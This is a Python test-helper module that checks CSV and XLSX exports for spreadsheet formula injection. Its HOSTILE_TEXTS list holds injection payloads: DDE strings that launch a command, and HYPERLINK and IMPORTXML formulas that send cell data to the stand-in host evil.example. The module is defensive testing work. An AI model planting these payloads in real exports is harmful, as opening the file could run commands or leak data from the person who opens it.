"""Reading exports back as a spreadsheet would: hostile text that a careless writer turns into a
live formula, and the checks that no cell of a CSV or XLSX file is one."""

from __future__ import annotations

import csv
import io
import re
import zipfile

from python_calamine import CalamineWorkbook

# text from outside that spreadsheets run as formulas (or open as links) when written carelessly
HOSTILE_TEXTS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    '=IMPORTXML("http://evil.example/","//a")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "{=1+1}",
    "http://evil.example/",
    "=1+1",
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def xlsx_formulas(data: bytes) -> list[str]:
    """The formulas of every worksheet of an XLSX file (none, for a safe export)."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        found = []
        for name in sheets:
            found += re.findall(r"<f[ >].*?</f>|<f/>", z.read(name).decode())
            found += re.findall(r"<hyperlink ", z.read(name).decode())
    return found


def xlsx_texts(data: bytes) -> set[str]:
    """Every text cell of every sheet (bounded: exports are small)."""
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    out: set[str] = set()
    for name in book.sheet_names:
        for row in book.get_sheet_by_name(name).iter_rows():
            out.update(v for v in row if isinstance(v, str))
    return out


def csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def assert_no_live_formula_in_csv(text: str) -> None:
    """No cell begins as a formula (a plain number such as -12.5 is not one)."""
    for row in csv_cells(text):
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                assert re.fullmatch(r"[+-]?\d+(\.\d*)?([eE][+-]?\d+)?", cell), cell
